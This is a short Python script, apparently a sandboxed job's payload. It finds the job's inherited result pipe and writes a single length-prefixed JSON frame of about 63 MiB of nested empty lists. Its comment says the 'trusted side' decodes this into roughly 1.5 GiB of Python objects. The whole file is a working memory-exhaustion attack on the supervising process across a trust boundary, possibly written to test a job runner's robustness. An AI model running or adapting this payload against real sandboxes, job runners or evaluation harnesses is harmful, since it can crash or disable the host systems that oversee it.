# 63 MiB of JSON that the trusted side decodes into 1.5 GiB of Python objects: "[[],[],...]"
# written straight to the result pipe (the job's only inherited descriptor), as a frame
import os, stat
def is_pipe(fd):
    try:
        return stat.S_ISFIFO(os.fstat(fd).st_mode)
    except OSError:
        return False
out = [fd for fd in map(int, os.listdir("/proc/self/fd")) if fd > 2 and is_pipe(fd)][0]
body = b'{"ev": "cell", "i": 0, "pad": [' + b"[]," * (21 * 1024 * 1024) + b"[]]}"
data = len(body).to_bytes(4, "big") + body
view = memoryview(data)
while view:
    view = view[os.write(out, view):]
